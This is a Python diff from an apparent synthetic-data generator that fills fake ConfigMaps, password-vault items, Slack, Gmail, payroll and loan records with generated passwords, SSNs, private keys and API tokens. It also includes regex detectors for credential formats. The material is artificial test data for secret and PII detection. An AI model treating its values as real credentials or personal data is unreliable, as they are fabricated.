+                "fields": [{"id": "private_key", "type": "SSHKEY", "label": "private key", "value": c.key("oneline", c.pick("OPENSSH PRIVATE KEY", "PRIVATE KEY"))},
+                           {"id": "public_key", "type": "STRING", "label": "public key", "value": "ssh-ed25519 " + b64blob(c.r, 51)[:68] + " " + b30_ascii(c.first) + "@laptop"},
+                           {"id": "notesPlain", "type": "STRING", "label": "notesPlain", "value": b30_j("host «ip»", ip=c.ip4("pub"))}]}
+    return {"id": rnd(c.r, string.ascii_lowercase + string.digits, 26), "title": c.pick("Router admin", "Stripe dashboard", "Bank login", "NAS", "Payroll portal"),
+            "category": "LOGIN", "vault": {"name": c.pick("Private", "Shared IT", "Family")},
+            "fields": [{"id": "username", "type": "STRING", "label": "username", "value": c.myem()},
+                       {"id": "password", "type": "CONCEALED", "label": "password", "value": c.pw()},
+                       {"id": "notesPlain", "type": "STRING", "label": "notesPlain", "value": b30_j("recovery phone «ph», set up on «ts»", ph=c.ph(), ts=c.ts("date", 200))}],
+            "urls": [{"primary": True, "href": b30_j("https://«ip»", ip=c.ip4("p192"))}]}
+
+
+def b30_j_configmap(c):
+    s1 = c.sec()
+    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "app-config", "namespace": c.pick("prod", "default")},
+            "data": {"LOG_LEVEL": "info", "DB_HOST": c.ip4("p10"), "DB_PASSWORD": c.pw(safe=True), b30_envname(s1): s1, "ALERT_EMAIL": c.em(),
+                     "TLS_KEY": c.key("oneline") if c.r.random() < 0.6 else c.st()}}
+
+
+def b30_j_keyvault(c):
+    s = c.sec() if c.r.random() < 0.7 else c.pw()
+    return {"attributes": {"created": c.ts(), "enabled": True, "recoveryLevel": "Recoverable+Purgeable"}, "contentType": c.pick("text/plain", None),
+            "id": "https://kv-" + c.pick("prod", "shared") + ".vault.azure.net/secrets/" + c.pick("api-key", "db-password", "partner-token") + "/" + rnd(c.r, HEX, 32),
+            "name": c.pick("api-key", "db-password", "partner-token"), "value": s}
+
+
+def b30_j_gmail(c):
+    return {"id": rnd(c.r, HEX, 16), "threadId": rnd(c.r, HEX, 16), "labelIds": [["INBOX"], ["IMPORTANT"]],
+            "snippet": b30_j("«t» «ph» «t2» «ib»", t=c.pick("Please call me back on", "Bitte rufen Sie mich an:", "Merci de me rappeler au", "Llámeme al"), ph=c.ph(),
+                             t2=c.pick("and pay to", "und überweisen an", "et virer sur", "y transfiera a"), ib=c.iban()),
+            "payload": {"headers": [{"name": "From", "value": b30_j("«nm» <«em»>", nm=c.name, em=c.myem())}, {"name": "To", "value": c.em()},
+                                    {"name": "X-Originating-IP", "value": b30_j("[«ip»]", ip=c.ip4("pub"))}, {"name": "Date", "value": "Wed, 30 Dec 2026 08:41:12 +0100"}]}}
+
+
+def b30_j_slackhist(c):
+    msgs = []
+    for _ in range(c.r.randint(2, 3)):
+        k = c.r.randrange(3)
+        if k == 0:
+            t = b30_j("here is the bot token for the new workspace app: «sl»", sl=c.v("SLACK_TOKEN"))
+        elif k == 1:
+            t = b30_j("staging login admin / «pw» on «ip»", pw=c.pw(safe=True), ip=c.ip4("p10"))
+        else:
+            t = b30_j("use «ph» for the docs example, real key is «s»", ph=c.phd(), s=c.sec())
+        msgs.append({"type": "message", "user": "U" + rnd(c.r, string.ascii_uppercase + string.digits, 10), "text": t, "ts": f"{B30_EPOCH - c.r.randint(0, 86400)}.{rnd(c.r, string.digits, 6)}"})
+    return {"ok": True, "messages": msgs, "has_more": False}
+
+
+def b30_j_notion(c):
+    return {"object": "list", "results": [
+        {"object": "block", "type": "heading_2", "heading_2": {"rich_text": [{"type": "text", "plain_text": c.pick("Onboarding", "Zugangsdaten", "Accès", "Accesos")}]}},
+        {"object": "block", "type": "paragraph", "paragraph": {"rich_text": [{"type": "text", "plain_text": b30_j("Wifi: «ssid» / «pw»", ssid=c.pick("Office", "Buero-5G"), pw=c.pw(safe=True))}]}},
+        {"object": "block", "type": "code", "code": {"language": "bash", "rich_text": [{"type": "text", "plain_text": b30_j("export GITHUB_TOKEN=«gh» AWS_ACCESS_KEY_ID=«ak» SLACK_BOT_TOKEN=«sl»", gh=c.v("GITHUB_TOKEN"), ak=c.v("AWS_ACCESS_KEY"), sl=c.v("SLACK_TOKEN"))}]}},
+        {"object": "block", "type": "paragraph", "paragraph": {"rich_text": [{"type": "text", "plain_text": b30_j("Office manager: «em», «ph»", em=c.em(), ph=c.ph())}]}}]}
+
+
+def b30_j_gusto(c):
+    return {"uuid": c.la(9), "first_name": c.first, "last_name": c.last, "email": c.myem(), "ssn": c.ssn(c.pick("dash", "bare")), "date_of_birth": c.dob("iso"),
+            "phone": c.ph(other=0), "home_address": {"street_1": c.street(), "city": c.city(), "state": c.pick("OH", "AZ", "NC", "ID", "NE", "WA", "WI", "OK")},
+            "bank_accounts": [{"routing_number": rnd(c.r, string.digits, 9), "account_number": rnd(c.r, string.digits, 11), "account_type": "Checking"}],
+            "jobs": [{"title": c.pick("Line cook", "Dental hygienist", "Warehouse lead"), "hire_date": c.ts("date", 900)}]}
+
+
+def b30_j_plaid(c):
+    return {"accounts": [{"account_id": rnd(c.r, AN, 37), "mask": rnd(c.r, string.digits, 4), "name": "Plaid Checking",
+                          "owners": [{"names": [[c.name]], "emails": [{"data": c.myem(), "primary": True, "type": "primary"}],
+                                      "phone_numbers": [{"data": c.ph(other=0, variants=["e164", "national"]), "primary": True, "type": "mobile"}],
+                                      "addresses": [{"data": {"street": c.street(), "city": c.city(), "country": "US"}, "primary": True}]}]}],
+            "request_id": rnd(c.r, AN, 15), "_note": b30_j("borrower SSN on file «ssn», DOB «dob»", ssn=c.ssn(), dob=c.dob())}
+
+
+def b30_j_creditapp(c):
+    return {"application_id": c.la(19), "product": c.pick("auto_refi", "personal_loan", "credit_card"),
+            "applicant": {"name": c.name, "ssn": c.ssn(), "dob": c.dob(), "email": c.myem(), "phone": c.ph(other=0), "income": c.r.randint(30000, 200000)},
+            "co_applicant": {"name": c.person(), "ssn": c.ssn(), "dob": c.dob()} if c.r.random() < 0.4 else None,
+            "device": {"ip": c.pick(c.ip4("pub"), c.ip6("glob")), "session": c.la(9)}}
+
+
+B30_JSON_ALL = [b30_j_cchook, b30_j_mcpresource, b30_j_agentspan, b30_j_autogen, b30_j_crewai, b30_j_llamaindex, b30_j_mistral, b30_j_jira, b30_j_intercom,
+                b30_j_freshdesk, b30_j_shopify, b30_j_adyen, b30_j_gocardless, b30_j_wise, b30_j_datadog, b30_j_splunk, b30_j_cloudtrail, b30_j_firebase,
+                b30_j_segment, b30_j_sendgrid, b30_j_sms, b30_j_greenhouse, b30_j_fnol, b30_j_pnr, b30_j_doppler, b30_j_op, b30_j_configmap, b30_j_keyvault,
+                b30_j_gmail, b30_j_slackhist, b30_j_notion]
+B30_JSON_US = [b30_j_gusto, b30_j_plaid, b30_j_creditapp]
+
+
+# ---------- blind30 dispatch ----------
+
+B30_TEXT_TECH = [v for k, v in sorted(globals().items()) if k.startswith("b30_t_") and k != "b30_t_expat" and callable(v)]
+B30_JSON_ALL += [b30_j_retool, b30_j_zapier, b30_j_langsmith]
+B30_TEXT_KINDS = len(B30_TEXT_TECH) + len(B30_FORMS) + len(B30_US) + 1
+B30_JSON_KINDS = len(B30_JSON_ALL) + len(B30_JSON_US)
+
+
+def b30_labels(doc):
+    """The labelled pieces of a document, in the order Writer writes them."""
+    out = []
+    if isinstance(doc, L):
+        return [doc] if doc.typ else []
+    if isinstance(doc, dict):
+        for v in doc.values():
+            out += b30_labels(v)
+    elif isinstance(doc, list):
+        for v in doc:
+            out += b30_labels(v)
+    return out
+
+
+def b30_render(doc, kind):
+    w = Writer()
+    if kind == "json":
+        w.json(doc)
+    else:
+        w.text(doc)
+    return w
+
+
+def b30_copies_ok(w):
+    """No labelled value of six bytes or more appears unlabelled elsewhere in the document."""
+    buf = bytes(w.buf)
+    spans = {(s["start"], s["end"]) for s in w.spans}
+    for s in w.spans:
+        v = buf[s["start"]:s["end"]]
+        if len(v) < 6:
+            continue
+        i = buf.find(v)
+        while i >= 0:
+            if not any(a <= i and i + len(v) <= b for a, b in spans):
+                return False
+            i = buf.find(v, i + 1)
+    return True
+
+
+def b30_make(f, r, loc, kind):
+    for _ in range(40):
+        c = B30C(f, r, loc)
+        if kind == "json":
+            fn = r.choice(B30_JSON_US) if loc == "en_US" and r.random() < 0.4 else r.choice(B30_JSON_ALL)
+            doc = fn(c)
+        else:
+            x = r.random()
+            if loc == "en_US" and x < 0.36:
+                doc = r.choice(B30_US)(c)
+            elif x < (0.46 if loc == "en_US" else 0.16):
+                doc = b30_form(c, r.choice(B30_FORMS))
+            elif x < (0.49 if loc == "en_US" else 0.19):
+                doc = b30_t_expat(c)
+            else:
+                doc = r.choice(B30_TEXT_TECH)(c)
+            doc = [p for p in doc if not (isinstance(p, str) and p == "")]
+        if b30_copies_ok(b30_render(doc, kind)):
+            return doc
+    raise AssertionError("blind30: no document without an unlabelled copy of a labelled value")
+
+
+def b30_text(f, r, loc):
+    return b30_make(f, r, loc, "text")
+
+
+def b30_json(f, r, loc):
+    return b30_make(f, r, loc, "json")
+
+
+# ---------- blind30 self-check ----------
+
+B30_SHAPES = {
+    "AWS_ACCESS_KEY": re.compile(r"(AKIA|ASIA)[A-Z2-7]{16}"),
+    "GITHUB_TOKEN": re.compile(r"gh[pousr]_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9]{22}_[A-Za-z0-9]{59}"),
+    "SLACK_TOKEN": re.compile(r"xox[bpa]-(2-)?[0-9]{10,13}-[0-9]{12,13}(-[0-9]{13})?-[A-Za-z0-9]{24,64}"),
+    "STRIPE_KEY": re.compile(r"[sr]k_(live|test)_[A-Za-z0-9]{24,99}"),
+    "OPENAI_KEY": re.compile(r"sk-(proj|svcacct)-[A-Za-z0-9_-]{48,156}|sk-[A-Za-z0-9]{20}T3BlbkFJ[A-Za-z0-9]{20}"),
+    "ANTHROPIC_KEY": re.compile(r"sk-ant-(api03|admin01)-[A-Za-z0-9_-]{93}AA"),
+    "GOOGLE_API_KEY": re.compile(r"AIza[A-Za-z0-9_-]{35}"),
+    "EMAIL": re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}"),
+}
+B30_IIN_OK = [(4, 4, (16,)), (51, 55, (16,)), (2221, 2720, (16,)), (34, 34, (15,)), (37, 37, (15,)), (6011, 6011, (16,)), (65, 65, (16,)),
+              (3528, 3589, (16,)), (36, 36, (14,))]
+
+
+def b30_value_ok(lab):
+    t, v = lab.typ, lab.text
+    if t in B30_SHAPES:
+        return B30_SHAPES[t].fullmatch(v) is not None
+    if t == "JWT":
+        parts = v.split(".")
+        if len(parts) != 3:
+            return False
+        hdr = json.loads(base64.urlsafe_b64decode(parts[0] + "=" * (-len(parts[0]) % 4)))
+        json.loads(base64.urlsafe_b64decode(parts[1] + "=" * (-len(parts[1]) % 4)))
+        sig = base64.urlsafe_b64decode(parts[2] + "=" * (-len(parts[2]) % 4))
+        return hdr.get("typ") == "JWT" and hdr.get("alg") in B30_JWT_SIG and len(sig) == B30_JWT_SIG[hdr["alg"]]
+    if t == "CREDIT_CARD":
+        d = re.sub(r"[ -]", "", v)
+        if not d.isdigit() or not luhn_ok(d):
+            return False
+        return any(int(d[:len(str(lo))]) in range(lo, hi + 1) and len(d) in ns for lo, hi, ns in B30_IIN_OK)
+    if t == "IBAN":
+        d = v.replace(" ", "")
+        if B30_IBAN_LEN.get(d[:2]) != len(d):
+            return False
+        return int("".join(str(int(ch, 36)) for ch in d[4:] + d[:4])) % 97 == 1
+    if t == "US_SSN":
+        d = re.sub(r"[ -]", "", v)
+        return len(d) == 9 and d.isdigit() and d[:3] not in ("000", "666") and d[0] != "9" and d[3:5] != "00" and d[5:] != "0000"
+    if t == "PHONE":
+        for cand in (v, "+" + v[2:] if v.startswith("00") else v):
+            try:
+                if phonenumbers.is_valid_number(phonenumbers.parse(cand, lab.region)):
+                    return True
+            except phonenumbers.NumberParseException:
+                pass
+        return False
+    if t == "IPV4":
+        return isinstance(ipaddress.ip_address(v), ipaddress.IPv4Address)
+    if t == "IPV6":
+        return isinstance(ipaddress.ip_address(v), ipaddress.IPv6Address)
+    if t == "DATE_OF_BIRTH":
+        y = re.search(r"(19[0-9]{2}|20[0-2][0-9])", v)
+        if re.fullmatch(r"[0-9]{6}", v):
+            return 1 <= int(v[2:4]) <= 12
+        return y is not None and 1900 <= int(y.group(1)) <= 2024
+    if t == "PRIVATE_KEY":
+        body = v.replace("\\n", "\n")
+        m = re.fullmatch(r"-----BEGIN ([A-Z ]+)-----\s+(.*?)\s*-----END \1-----", body, re.S)
+        if not m:
+            return False
+        lines = [x.strip() for x in re.split(r"[\n ]+(?=\S)", m.group(2)) if x.strip()]
+        if m.group(1) == "PGP PRIVATE KEY BLOCK":
+            if not lines[-1].startswith("=") or len(lines[-1]) != 5:
+                return False
+            lines = lines[:-1]
+        base64.b64decode("".join(lines), validate=True)
+        return True
+    if t == "PASSWORD":
+        return len(v) >= 6 and " " not in v and '"' not in v and "\\" not in v
+    if t == "GENERIC_SECRET":
+        return (len(v) >= 10 or (v.isdigit() and len(v) in (3, 4))) and " " not in v
+    if t == "PLACEHOLDER":
+        return v in B30_PH
+    return False
+
+
+def b30_check(i, kind, doc, w, text, loc):
+    labs = b30_labels(doc)
+    assert len(labs) == len(w.spans), (i, len(labs), len(w.spans))
+    last = -1
+    for lab, sp in zip(labs, w.spans):
+        assert sp["type"] == lab.typ and w.buf[sp["start"]:sp["end"]].decode("utf-8") == lab.text, (i, sp, lab.text)
+        assert sp["start"] >= last, (i, "spans out of order")
+        last = sp["end"]
+        assert b30_value_ok(lab), (i, lab.typ, lab.text)
+    assert b30_copies_ok(w), (i, "unlabelled copy of a labelled value")
+    if kind == "json":
+        json.loads(text)
+        assert "\\" not in text and not any(ord(ch) < 32 for ch in text), (i, "escape or control character in a JSON document")
 
 
 if __name__ == "__main__":
